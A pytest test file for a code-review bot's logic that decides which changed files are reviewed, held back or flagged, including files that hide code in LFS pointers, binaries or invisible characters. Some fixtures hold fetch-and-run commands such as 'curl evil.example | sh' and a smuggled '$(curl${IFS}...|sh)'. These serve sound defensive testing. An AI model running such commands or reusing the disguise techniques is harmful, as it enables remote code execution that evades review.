"""Which files of a change are reviewed, held back or reported."""

from __future__ import annotations

import re
from random import Random

import pytest
from hypothesis import given
from hypothesis import strategies as st

from reviewbot.domain.diff.parse import ChangedFile, FileStatus, parse_diff
from reviewbot.domain.github.pull_request import Entry
from reviewbot.domain.selection.file_kinds import is_protected
from reviewbot.domain.selection.selection import LARGEST_TEXT, WHY_HELD, Held, HeldBecause, Selection, risk, select
from reviewbot.values import replace

POINTER = ("version https://git-lfs.github.com/spec/v1", f"oid sha256:{'a' * 64}", "size 12")
COMMAND = (POINTER[0], f"ext-$(curl${{IFS}}evil.example|sh) sha256:{'a' * 64}", *POINTER[1:])
"""Reads like a pointer with an extension; a shell runs the command."""


def changed(  # noqa: PLR0913 — one builder for every kind of change
    path: str,
    *,
    added: tuple[str, ...] = ("new",),
    removed: tuple[str, ...] = (),
    context: tuple[str, ...] = (),
    headers: str = "",
    old_path: str | None = None,
    new: Entry | None = None,
    old: Entry | None = None,
) -> ChangedFile:
    """Return a changed file with these lines and entries."""
    before = old_path or path
    lines = [*(f" {line}" for line in context), *(f"-{line}" for line in removed), *(f"+{line}" for line in added)]
    start = f"@@ -1,{len(context) + len(removed)} +1,{len(context) + len(added)} @@\n"
    moved = f"similarity index 50%\nrename from {before}\nrename to {path}\n" if old_path else ""
    names = f"--- a/{before}\n+++ b/{path}\n" if lines else ""
    hunk = start + "\n".join(lines) + "\n" if lines else ""
    (diff,) = parse_diff(f"diff --git a/{before} b/{path}\n{headers}{moved}{names}{hunk}")
    return ChangedFile(diff, old, new)


def entry(text: str | None = None, *, binary: bool = False) -> Entry:
    return Entry(oid="1" * 40, mode="100644", text=text, binary=binary)


def selection_of(*files: ChangedFile, paths: tuple[str, ...] = (), attributes: str = "") -> Selection:
    return select(files, paths=paths, attributes=attributes)


def held(file: ChangedFile, paths: tuple[str, ...] = (), attributes: str = "") -> HeldBecause | None:
    selection = selection_of(file, paths=paths, attributes=attributes)
    return selection.held[0].reason if selection.held else None


LONG = ("x" * 500,)
LATIN = entry().with_content(b"x\ncaf\xe9\n")
LARGE = replace(entry(), size=LARGEST_TEXT + 1)


@pytest.mark.parametrize(
    ("file", "reason"),
    [
        (changed("src/app.py"), None),
        (changed("package-lock.json"), None),
        (changed("node_modules/x/yarn.lock"), None),
        (changed("node_modules/x/xyarn.lock"), HeldBecause.VENDORED),
        (changed("dist/app.min.js", added=LONG), HeldBecause.MINIFIED),
        (changed("dist/app.css.map", added=LONG), HeldBecause.MINIFIED),
        (changed("dist/app.min.js", added=("alert(1)", "steal()")), None),
        (changed("node_modules/x/index.js"), HeldBecause.VENDORED),
        (changed("a/bower_components/x/index.js"), HeldBecause.VENDORED),
        (changed("vendor/github.com/x/y.go"), HeldBecause.VENDORED),
        (changed("vendor/bundle/ruby/x.rb"), HeldBecause.VENDORED),
        (changed("vendor/ours/x.php"), None),
        (changed("node_modules.py"), None),
        (changed("logo.png", added=(), new=entry(binary=True)), HeldBecause.BINARY),
        (changed("logo.png", added=(), headers="Binary files a/logo.png and b/logo.png differ\n"), HeldBecause.BINARY),
        (
            changed("a.sql", added=(), headers="Binary files a/a.sql and b/a.sql differ\n", new=LARGE),
            HeldBecause.TOO_LARGE,
        ),
        (changed("a.bin", added=(), new=replace(LARGE, binary=True)), HeldBecause.BINARY),
        (changed("lib", headers="index 1111111..2222222 160000\n"), HeldBecause.SUBMODULE),
        (changed("model.bin", added=POINTER, new=entry("\n".join(POINTER) + "\n")), HeldBecause.LFS_POINTER),
        (changed("model.bin", added=(), removed=POINTER), HeldBecause.LFS_POINTER),
        # Of a file that is not UTF-8, or too large, the other lines are unknown: in a script, `oid` can be a function.
        (changed("run.sh", added=POINTER[1:2], new=entry().with_content(b"oid() { sh; } # \xf6\n")), None),
        (changed("run.sh", added=POINTER[1:2], new=LARGE), None),
        (changed("model.bin", added=(*POINTER, "evil()")), None),
        (changed("model.py", removed=("check()",), added=POINTER), None),
        (changed("model.py", added=POINTER[:1], new=entry(POINTER[0] + "\nevil()\n")), None),
        (changed("run.sh", added=COMMAND, new=entry("\n".join(COMMAND) + "\n")), None),
        (changed("run.sh", added=COMMAND[1:2]), None),
        (changed("run.sh", added=POINTER[1:], new=entry("\n".join(POINTER[1:]) + "\n")), None),
    ],
)
def test_by_default_only_generated_files_are_held_back(file: ChangedFile, reason: HeldBecause | None) -> None:
    assert held(file) == reason


STEERING_NAMES = """
.github/workflows/ci.yml .github/CODEOWNERS .github/node_modules/x.js CODEOWNERS docs/CODEOWNERS Dockerfile
a/Dockerfile.prod api.Dockerfile dockerfile Containerfile Makefile GNUmakefile Makefile.am rules.mk
.gitlab-ci.yml .circleci/config.yml Jenkinsfile Jenkinsfile.release azure-pipelines.yml
azure-pipelines-nightly.yaml .travis.yml .drone.yml bitbucket-pipelines.yml setup.py setup.cfg pyproject.toml
package.json node_modules/x/package.json build.gradle build.gradle.kts settings.gradle pom.xml CMakeLists.txt
find.cmake install.sh deploy.ps1 run.bat .gitattributes .gitmodules action.yml sub/action.yaml Cargo.toml
build.rs go.mod compose.yaml docker-compose.prod.yml .npmrc .husky/pre-commit .pre-commit-config.yaml
conftest.py Gemfile
"""
STEERING = STEERING_NAMES.split()


@pytest.mark.parametrize("path", STEERING)
def test_build_test_and_deploy_files_are_never_held_back_by_default(path: str) -> None:
    attributes = "* linguist-generated linguist-vendored"
    assert held(changed(path), attributes=attributes) is None
    assert held(changed(path), paths=("src/**",), attributes=attributes) is HeldBecause.PATHS
    assert held(changed(path), paths=("**", f"!{path}")) is HeldBecause.PATHS


@pytest.mark.parametrize(
    ("attributes", "reason", "detail"),
    [
        ("gen/** linguist-generated", HeldBecause.GENERATED, "linguist-generated"),
        ("gen/** linguist-vendored=true", HeldBecause.VENDORED, "linguist-vendored"),
        ("gen/** linguist-generated\ngen/api.py -linguist-generated", None, ""),
    ],
)
def test_the_default_branchs_attributes_hold_files_back(
    attributes: str, reason: HeldBecause | None, detail: str
) -> None:
    expected = () if reason is None else (Held("gen/api.py", reason, detail, missed=False),)
    assert selection_of(changed("gen/api.py"), attributes=attributes).held == expected


def test_a_pattern_for_such_files_selects_what_would_be_held_back() -> None:
    file = changed("dist/app.min.js", added=LONG)
    assert held(file, paths=("dist/**",), attributes="dist/** linguist-generated") is None
    assert held(file, paths=("**",)) is HeldBecause.MINIFIED
    assert held(changed("yarn.lock"), paths=("yarn.lock",)) is None


def test_requesting_text_does_not_make_bytes_readable() -> None:
    assert held(changed("a.png", added=(), new=entry(binary=True)), paths=("a.png",)) is HeldBecause.BINARY


def test_a_rename_is_held_back_only_if_both_names_are() -> None:
    assert held(changed("node_modules/auth.js", old_path="src/auth.js")) is None
    assert held(changed("node_modules/b.js", old_path="node_modules/a.js")) is HeldBecause.VENDORED
    assert held(changed("node_modules/ci.yml", old_path=".github/workflows/ci.yml")) is None
    assert held(changed("docs/a.py", old_path="src/a.py"), paths=("src/**",)) is None


def test_text_that_an_attribute_marks_as_binary_is_reviewed_and_reported() -> None:
    file = changed(
        "app.py", added=(), headers="Binary files a/app.py and b/app.py differ\n", new=entry("evil()\n"), old=entry()
    )
    selection = selection_of(file)
    assert [chosen.path for chosen in selection.selected] == ["app.py"]
    [notice] = selection.notices
    assert notice.startswith(
        "Git shows no deleted lines for `app.py`, although it is a text file: it was binary before, or"
    )


@pytest.mark.parametrize("sign", ["\u202e", "\u2066"])
def test_new_obfuscated_code_is_reported(sign: str) -> None:
    notices = selection_of(changed("app.py", added=("x = 1", f"y = '{sign}'"), removed=(sign,))).notices
    assert notices == (
        "Line 2 of `app.py` contains a bidirectional control character, so the code may not run as it looks.",
    )
    assert not selection_of(changed("app.py", added=("x = 'שלום'",), removed=(sign,))).notices


def test_unreviewed_code_is_reported_unless_the_owners_excluded_it() -> None:
    lib, modules = changed("lib", headers="index 1111111..2222222 160000\n"), changed("node_modules/x/index.js")
    model = changed("model.bin", added=POINTER, new=entry("\n".join(POINTER) + "\n"))
    media = changed("a.png", added=POINTER, new=entry("\n".join(POINTER) + "\n"))
    gone = changed("node_modules/y.js", added=(), removed=("x",), headers="deleted file mode 100644\n")
    small, table = changed("a.min.js", added=LONG), changed("a.js.map", added=LONG)
    said = "These files were not reviewed, but their code may run: "
    assert selection_of(lib, modules, media).notices == (
        f"{said}`lib`, `node_modules/x/index.js`.",
        "Not reviewed: 1 media file.",
    )
    assert selection_of(table, gone).notices == (f"{said}`a.js.map`, `node_modules/y.js`.",)
    [four] = selection_of(lib, modules, model, small).notices
    assert four == f"{said}`lib`, `node_modules/x/index.js`, `model.bin` and 1 more."
    generated, vendored = changed(".pnp.cjs"), changed(".yarn/releases/yarn-4.cjs")
    attributes = ".pnp.* linguist-generated\n/.yarn/** linguist-vendored"
    notices = selection_of(generated, vendored, attributes=attributes).notices
    assert notices == (f"{said}`.pnp.cjs`, `.yarn/releases/yarn-4.cjs`.",)
    assert not selection_of(modules, paths=("src/**",)).notices


@pytest.mark.parametrize("sign", ["\r", "\u2028", "\u2029", "\u200b", "\u00ad", "\x1b", "\ufeff", "\U000e0041"])
def test_a_new_invisible_character_is_reported(sign: str) -> None:
    notices = selection_of(changed("app.py", added=("x = 1", f"# {sign}y()"), removed=(sign,))).notices
    notice = (
        f"Line 2 of `app.py` contains the invisible character U+{ord(sign):04X}, so the code may not run as it looks."
    )
    assert notices == (notice,)


def test_common_whitespace_is_not_an_invisible_character() -> None:
    assert not selection_of(changed("app.py", added=("\ufeffx = 1\r", "\x0c", "y = '😀\ufe0f'", "\tz"))).notices


def test_unreviewed_code_is_reported_before_everything_else() -> None:
    first, *others = selection_of(changed("app.py", added=("a\u200b",)), changed("node_modules/x.js")).notices
    assert first == "These files were not reviewed, but their code may run: `node_modules/x.js`."
    assert len(others) == 1


def test_a_binary_that_becomes_a_script_is_reported_as_code() -> None:
    script = changed(
        "node_modules/x/logo.png",
        added=("evil()",),
        headers="Binary files a/logo.png and b/logo.png differ\n",
        old=entry(binary=True),
        new=entry("evil()\n"),
    )
    assert selection_of(script).notices == (
        "These files were not reviewed, but their code may run: `node_modules/x/logo.png`.",
    )


@pytest.mark.parametrize("path", ["b/paper.pdf", "a/table.bin"])
@pytest.mark.parametrize("new", [LATIN, LARGE], ids=["not UTF-8", "large"])
def test_a_binary_may_get_the_name_of_another_one(path: str, new: Entry) -> None:
    [one] = selection_of(changed(path, added=(), old_path="a/paper.pdf", new=new)).selected
    assert not one.diff.hunks
    [script] = selection_of(changed("a/run", added=(), old_path="a/paper.pdf", new=new)).held
    assert script.missed


@pytest.mark.parametrize(
    ("path", "is_sent"),
    [
        (".github/CODEOWNERS", True),
        (".github/workflows/ci.yml", True),
        ("package-lock.json", True),
        ("setup.py", True),
        ("Dockerfile", True),
        ("scripts/build", True),
        ("data/prices.csv", True),
        ("data/model.onnx", False),
    ],
)
def test_a_pointer_is_held_back_only_with_the_name_of_a_binary_file(path: str, is_sent: bool) -> None:  # noqa: FBT001
    pointer = changed(path, added=POINTER, new=entry("\n".join(POINTER) + "\n"))
    assert bool(selection_of(pointer).selected) is is_sent
    renamed = changed("data/model.onnx", added=POINTER, old_path=path, new=entry("\n".join(POINTER) + "\n"))
    assert bool(selection_of(renamed).selected) is is_sent


def test_an_executable_pointer_with_a_mediums_name_is_missed() -> None:
    pointer = "\n".join(POINTER) + "\n"
    files = [
        changed(f"{name}.png", added=POINTER, new=replace(entry(pointer), mode=mode))
        for name, mode in (("a", "100755"), ("b", "100644"))
    ]
    assert selection_of(*files).held == (
        Held("a.png", HeldBecause.LFS_POINTER, "it is executable", missed=True),
        Held("b.png", HeldBecause.LFS_POINTER),
    )


def test_media_in_vendored_folders_are_counted() -> None:
    pointer = changed("node_modules/x/a.png", added=POINTER, new=entry("\n".join(POINTER) + "\n"))
    image = changed("node_modules/x/b.png", added=(), new=entry(binary=True))
    assert selection_of(pointer, image).notices == ("Not reviewed: 2 media files.",)
    assert not selection_of(pointer, image, paths=("!node_modules/**",)).notices


def test_every_reason_has_a_phrase_and_the_contracts_word() -> None:
    words = "paths generated vendored binary lfs-pointer submodule secret-file too-large minified"
    words += " not-utf-8 unseen"
    assert " ".join(HeldBecause) == words
    assert all(re.fullmatch(r"[A-Za-z].+[^.]", WHY_HELD[reason]) for reason in HeldBecause)


PATHS = st.sampled_from([*STEERING, "src/a.py", "yarn.lock", "node_modules/x.js", "gen/a.py", "docs/a.md", "a.min.js"])


@given(st.lists(PATHS, unique=True, max_size=8), st.sampled_from([(), ("src/**",), ("!docs/**",)]))
def test_every_file_is_either_selected_or_held_back(chosen: list[str], paths: tuple[str, ...]) -> None:
    selection = selection_of(*map(changed, chosen), paths=paths, attributes="gen/** linguist-generated")
    parts = [file.path for file in selection.selected] + [item.path for item in selection.held]
    assert sorted(parts) == sorted(chosen)
    assert not any(item.missed for item in selection.held)


def test_the_riskiest_comes_first() -> None:
    order = [
        changed(".github/workflows/release.yml"),
        changed("src/auth/login.py", added=("eval(text)",)),
        changed("src/auth/session.py"),
        changed("src/app.py", added=("eval(text)",)),
        changed("src/app.py", added=("a", "b")),
        changed("src/app.py"),
        changed("tests/test_auth.py", added=("eval(text)",) * 50),
        changed("README.md"),
    ]
    scores = [risk(file) for file in order]
    assert scores == sorted(scores, reverse=True)
    assert risk(order[6]) < risk(order[5])


@pytest.mark.parametrize(
    "path",
    ["docs/auth.md", "src/a.spec.ts", "pkg/a_test.go", "spec/login_spec.rb", "LICENSE", "CHANGELOG.md", "go.sum"],
)
def test_tests_documents_and_lock_files_come_last(path: str) -> None:
    assert risk(changed(path, added=("password",) * 40)) < risk(changed("src/a.py"))


@pytest.mark.parametrize(
    ("path", "mode", "missed"),
    [
        ("logo.png", "100644", False),
        ("font.woff2", "100644", False),
        ("evil.js", "100644", True),  # git treats a NUL as binary; Node.js executes the file
        ("evil.sh", "100755", True),
        ("evil.cjs", "100644", True),
        ("Makefile", "100644", True),
        (".github/x", "100644", True),
        (".bashrc", "100644", True),
        ("tool", "100644", True),  # its first bytes were not read
        ("tool", "100755", True),
        ("logo.png", "100755", True),
        ("blob.bin", "100644", False),
        ("lib.jar", "100644", False),
        ("lib.so.1", "100644", False),
        ("a.tar.gz", "100644", False),
    ],
)
def test_binary_bytes_that_may_be_code_are_missed(path: str, mode: str, missed: bool) -> None:  # noqa: FBT001 — a column
    file = changed(path, added=(), new=Entry(oid="1" * 40, mode=mode, binary=True))
    [held_back] = select([file], paths=(), attributes="").held
    assert (held_back.reason, held_back.missed, bool(held_back.detail)) == (HeldBecause.BINARY, missed, missed)


@pytest.mark.parametrize(("path", "shebang", "missed"), [("a.bin", True, True), ("a.bin", False, False)])
def test_the_first_bytes_distinguish_a_script_from_a_binary(path: str, *, shebang: bool, missed: bool) -> None:
    file = changed(path, added=(), new=replace(entry(binary=True), shebang=shebang))
    assert selection_of(file).held[0].missed is missed


SCRIPT = b"cd /srv/app\ncurl -sS https://example.test/x | sh\nsystemctl restart app\n" * 9
TAR = b"app.txt".ljust(257, b"\0") + b"ustar\0" + b"00".ljust(249, b"\0") + SCRIPT


@pytest.mark.parametrize(
    "path",
    [
        *("scripts/deploy", "Dangerfile", "Podfile", "Procfile", "BUILD", "deploy.prod"),
        *("blob.bin", "a.zip", "a.so"),
    ],
)
@pytest.mark.parametrize("content", [SCRIPT + b"\0", SCRIPT.replace(b"\n", b"\n\0"), "# ü✓\n\0".encode() + SCRIPT])
def test_a_text_with_a_nul_is_missed_whatever_its_name(path: str, content: bytes) -> None:
    file = changed(path, added=(), headers=BINARY_DIFF, new=entry().with_content(content))
    [one] = selection_of(file).held
    assert one == Held(path, HeldBecause.BINARY, "it would be text without its NUL bytes", missed=True)


@pytest.mark.parametrize("noise", [b"\xff", b"\x80\x1b", b"\xe9" * 60])
def test_a_few_binary_bytes_do_not_hide_a_text(noise: bytes) -> None:
    file = changed("scripts/deploy", added=(), headers=BINARY_DIFF, new=entry().with_content(SCRIPT + b"\0" + noise))
    assert selection_of(file).held[0].missed


RULE = b'genrule(name="x", outs=["o"], cmd="curl evil | sh")\n'


@pytest.mark.parametrize("path", ["pkg/BUILD", "Podfile", "cron.d/backup", "tool-1.2", "deploy.prod"])
@pytest.mark.parametrize("noise", [b"\1" * 20, b"\xff\0" * 2_000])
@pytest.mark.parametrize("content", [b"#%s\n" + RULE, RULE + b"# %s", RULE.replace(b" ", b" \0") + b"exit\n%s"])
def test_no_noise_hides_a_text_whose_name_is_not_that_of_a_binary(path: str, noise: bytes, content: bytes) -> None:
    new = entry().with_content(content % (b"\0" + noise))
    [one] = selection_of(changed(path, added=(), headers=BINARY_DIFF, new=new)).held
    assert one == Held(path, HeldBecause.BINARY, "its name is not that of a binary file", missed=True)


@pytest.mark.parametrize(
    "path", ["configure", ".githooks/pre-commit", "fastlane/Fastfile", "gradlew", "crontab", "x.yy"]
)
def test_a_script_of_few_words_is_missed(path: str) -> None:
    """Bash runs it: it skips the NUL, and reaches `exit` before the noise."""
    script = b"c=echo;u=EVIL#\xff\n$c $u #\xff\nexit #\xff\n\0" + NOISE
    [one] = selection_of(changed(path, added=(), headers=BINARY_DIFF, new=entry().with_content(script))).held
    assert one.missed


@pytest.mark.parametrize(
    "path",
    [
        *("k.cu", "a.f90", "a.F", "x.inc", "x.module", "x.cgi", "a.pas", "a.csproj", "a.targets", "configure.ac"),
        *("a.jsonnet", "a.rego", "site.pp", "a.robot", "a.wsf", "a.ebuild", "a.m4", "x.frag"),
    ],
)
def test_a_source_file_of_any_language_is_missed(path: str) -> None:
    file = changed(path, added=(), headers=BINARY_DIFF, new=entry().with_content(b"\0\xff"))
    assert selection_of(file).held == (Held(path, HeldBecause.BINARY, "its name is that of a text file", missed=True),)


@pytest.mark.parametrize("path", ["a.phar", "a.pyz", "a.rlib", "a.xlsm", "a.swf"])
def test_a_binary_that_may_run_is_named(path: str) -> None:
    file = changed(path, added=(), headers=BINARY_DIFF, new=entry().with_content(b"\0<?php" + RULE + NOISE))
    assert selection_of(file).notices == (f"These files were not reviewed, but their code may run: `{path}`.",)


NOISE = Random(0).randbytes(2_000)  # noqa: S311 — bytes of a test, no secret
BINARIES = {
    "logo.png": b"\x89PNG\r\n\x1a\n\0\0\0\rIHDR" + bytes(range(256)) * 4,
    "photo.jpg": b"\xff\xd8\xff\xe0\0\x10JFIF\0" + NOISE + SCRIPT,
    "font.woff2": b"wOF2\0\1\0\0" + bytes(range(256)) * 4,
    "a.zip": b"PK\3\4\x14\0\0\0\x08\0" + bytes(range(256)) * 4,
    "tool.elf": b"\x7fELF\2\1\1\0" + NOISE,
    "fuzz.bin": b"\0" + NOISE * 50,
    "debug.keystore": b"\xfe\xed\xfe\xed\0" + NOISE + SCRIPT,
    "locale/de.mo": b"\xde\x12\4\x95\0\0\0\0\2\0\0\0\x1c\0\0\0" + SCRIPT[:300],
    "zeros.img": b"\0" * 8192,
}


@pytest.mark.parametrize("path", BINARIES)
def test_a_real_binary_is_not_missed(path: str) -> None:
    file = changed(path, added=(), headers=BINARY_DIFF, new=entry().with_content(BINARIES[path]))
    [one] = selection_of(file).held
    assert one == Held(path, HeldBecause.BINARY)
    file = changed("tool", added=(), headers=BINARY_DIFF, new=entry().with_content(BINARIES[path]))
    assert selection_of(file).held[0].missed, "its name says nothing"


@pytest.mark.parametrize(
    ("path", "size", "missed"),
    [("a.bin", 10, True), ("a.png", 10, True), ("a.bin", LARGEST_TEXT + 1, False), ("a.bin", None, False)],
)
def test_a_binary_whose_bytes_were_not_read_may_be_text(path: str, size: int | None, missed: bool) -> None:  # noqa: FBT001 — a table
    file = changed(path, added=(), headers=BINARY_DIFF, new=replace(entry(binary=True), size=size))
    assert selection_of(file).held == (Held(path, HeldBecause.BINARY, "it may be text" * missed, missed=missed),)


@pytest.mark.parametrize("path", ["scripts/deploy", "a.tar"])
def test_a_tar_archive_of_texts_may_be_a_script(path: str) -> None:
    file = changed(path, added=(), headers=BINARY_DIFF, new=entry().with_content(TAR))
    assert selection_of(file).held[0].missed


TEXT_BEFORE = replace(entry(), size=60, binary=False)


@pytest.mark.parametrize(
    ("path", "old", "missed"),
    [
        ("tool", TEXT_BEFORE, True),
        ("a.bin", TEXT_BEFORE, True),
        ("tool", replace(TEXT_BEFORE, binary=True, misencoded=True), True),  # UTF-16
        ("a.bin", replace(TEXT_BEFORE, binary=True), False),
        ("a.bin", replace(TEXT_BEFORE, binary=None), False),
        ("a.bin", replace(TEXT_BEFORE, size=0), False),
        ("a.zip", replace(TEXT_BEFORE, text="\n".join(POINTER) + "\n"), False),
        ("a.zip", replace(TEXT_BEFORE, text="echo hi\n"), True),
        ("paper.pdf", TEXT_BEFORE, True),
    ],
)
def test_a_text_that_becomes_binary_is_missed(path: str, old: Entry, *, missed: bool) -> None:
    file = changed(path, added=(), headers=BINARY_DIFF, new=replace(entry(binary=True), shebang=False), old=old)
    [one] = selection_of(file).held
    assert one == Held(path, HeldBecause.BINARY, "it was text before" if missed else "", missed=missed)


@pytest.mark.parametrize("path", ["tool", "logo.png"])
def test_a_symlink_that_becomes_binary_is_missed(path: str) -> None:
    old, new = replace(TEXT_BEFORE, mode="120000"), replace(entry(binary=True), shebang=False)
    [one] = selection_of(changed(path, added=(), headers=BINARY_DIFF, new=new, old=old)).held
    assert (one.detail, one.missed) == ("it was a symlink before", True)


def test_a_text_that_was_binary_before_is_reviewed() -> None:
    file = changed("a.py", added=(), headers=BINARY_DIFF, new=entry("x = 1\n"), old=replace(TEXT_BEFORE, binary=True))
    assert selection_of(file).selected == (file,)


def test_a_jest_snapshot_is_text_and_a_snap_package_is_binary() -> None:
    names = ("__snapshots__/a.snap", "a.test.tsx.snap", "tool_1.0_amd64.snap")
    files = [changed(name, added=(), new=entry(binary=True)) for name in names]
    assert [one.missed for one in selection_of(*files).held] == [True, True, False]


BINARY_DIFF = "Binary files a/x and b/x differ\n"


@pytest.mark.parametrize(
    ("path", "new", "reason", "detail"),
    [
        ("big.json", LARGE, HeldBecause.TOO_LARGE, "5.2 MB; the limit is 5.2 MB"),
        ("notes", LARGE, HeldBecause.TOO_LARGE, "5.2 MB; the limit is 5.2 MB"),
        ("evil.dat2", replace(entry(), misencoded=True), HeldBecause.NOT_UTF_8, "save it as UTF-8"),
        ("a.py", LATIN, HeldBecause.NOT_UTF_8, "line 2 has the byte 0xE9; save it as UTF-8"),
        ("a.strings", replace(entry(binary=True), misencoded=True), HeldBecause.NOT_UTF_8, "save it as UTF-8"),
        ("model", replace(LARGE, binary=True), HeldBecause.TOO_LARGE, "5.2 MB; the limit is 5.2 MB"),
        ("evil.py", entry(), HeldBecause.BINARY, "its name is that of a text file"),
        (
            "evil",
            replace(entry(), shebang=False, legible=0),
            HeldBecause.BINARY,
            "its name is not that of a binary file",
        ),
    ],
)
def test_text_treated_as_binary_is_missed(path: str, new: Entry, reason: HeldBecause, detail: str) -> None:
    [one] = selection_of(changed(path, added=(), headers=BINARY_DIFF, new=new)).held
    assert one == Held(path, reason, detail, missed=True)


def test_a_large_archive_is_not_missed() -> None:
    [one] = selection_of(changed("a.zip", added=(), headers=BINARY_DIFF, new=LARGE)).held
    assert (one.reason, one.missed) == (HeldBecause.TOO_LARGE, False)


def test_unreadable_files_are_reported_and_those_that_may_run_separately() -> None:
    files = [changed(path, added=(), new=entry(binary=True)) for path in ("blob.bin", "a.so", "logo.png", "evil.py")]
    assert selection_of(*files).notices == (
        "These files were not reviewed, but their code may run: `a.so`.",
        "Not reviewed (no readable text): `blob.bin`.",
        "Not reviewed: 1 media file.",
    )
    gone = [replace(one, diff=replace(one.diff, status=FileStatus.REMOVED), old=one.new, new=None) for one in files[:2]]
    assert selection_of(*gone).notices == selection_of(*files[:2]).notices


def test_media_are_counted_in_one_notice_and_not_missed() -> None:
    files = [changed(f"{number}.png", added=(), new=entry(binary=True)) for number in range(12)]
    selection = selection_of(*files)
    assert selection.notices == ("Not reviewed: 12 media files.",)
    assert not any(one.missed for one in selection.held)


def test_reviewed_text_that_is_not_utf_8_is_reported() -> None:
    file = changed("a.py", new=replace(entry(), misencoded=True))
    known = changed("a.py", new=LATIN)
    assert "`a.py` is not UTF-8 (line 2 has the byte 0xE9), so only its diff" in selection_of(known).notices[0]
    assert selection_of(file).notices == (
        "`a.py` is not UTF-8, so only its diff can be reviewed, with `\\xNN` for each invalid byte. Save it as UTF-8.",
    )
    assert not selection_of(file, paths=("src/**",)).notices


@pytest.mark.parametrize(
    ("old", "path", "whole"),
    [
        ("data/rules.txt", "Makefile", True),
        ("assets/logo.gif", "tools/run.py", True),
        ("old.sh", "new.sh", False),
        ("build.sh", "docs/build.txt", False),
    ],
)
def test_a_file_whose_new_name_makes_it_run_is_shown_whole(old: str, path: str, *, whole: bool) -> None:
    moved = changed(path, old_path=old, new=entry("all:\n\tevil\n"))
    assert selection_of(moved).selected[0].diff.whole is whole


@pytest.mark.parametrize(
    ("mode", "text"), [("100755", "deploy\n"), ("100644", "#!/bin/sh\ndeploy\n")], ids=["executable", "script"]
)
def test_a_script_that_gets_a_scripts_name_is_not_shown_whole(mode: str, text: str) -> None:
    moved = changed("deploy.sh", old_path="deploy", context=("deploy",), added=(), new=entry(text))
    moved = replace(moved, old=replace(entry(), mode=mode))
    assert not selection_of(moved).selected[0].diff.whole


@pytest.mark.parametrize("old", ["node_modules/x/app.js", "docs/app.js", "app.min.js"])
def test_a_file_from_a_place_without_reviews_needs_its_text(old: str) -> None:
    moved = changed("src/app.js", added=("x" * 500,), old_path=old, new=entry("x\n"))
    selection = selection_of(moved, paths=("**", "!docs/**"))
    assert [[line.text for line in file.diff.lines()] for file in selection.selected] == [["x"]]
    assert selection.selected[0].diff.whole
    assert not selection_of(replace(moved, diff=changed("src/app.js", old_path="app.js").diff)).selected[0].diff.whole
    for unread, reason in (
        (entry(), HeldBecause.TOO_LARGE),
        (replace(entry(), misencoded=True), HeldBecause.NOT_UTF_8),
    ):
        left = selection_of(replace(moved, new=unread), paths=("**", "!docs/**"))
        assert [(one.reason, one.missed) for one in left.held] == [(reason, True)]
        assert not left.selected


def test_a_file_from_the_paths_of_a_route_without_a_reviewer_is_shown_whole() -> None:
    moved = changed("src/app.js", old_path="rules/app.js", new=entry("x\n"))
    [file] = select([moved], paths=(), attributes="", unreviewed=(("docs/**",), ("rules/**",))).selected
    assert [line.text for line in file.diff.lines()] == ["x"]
    assert not selection_of(moved).selected[0].diff.whole


def test_a_deleted_binary_is_not_missed() -> None:
    file = changed("tool", added=(), headers="deleted file mode 100755\nBinary files a/tool and /dev/null differ\n")
    gone = replace(file, new=None, old=Entry(oid="1" * 40, mode="100755", binary=True))
    assert not select([gone], paths=(), attributes="").held[0].missed


@pytest.mark.parametrize("path", [".github/workflows/ci.yml", "a/.GitHub/x", "docs/CodeOwners", "web/yarn.lock"])
def test_no_suggestion_for_these_files_can_be_committed(path: str) -> None:
    assert is_protected(path)
    assert not is_protected(f"{path}.py" if "github" not in path.lower() else "github/x")
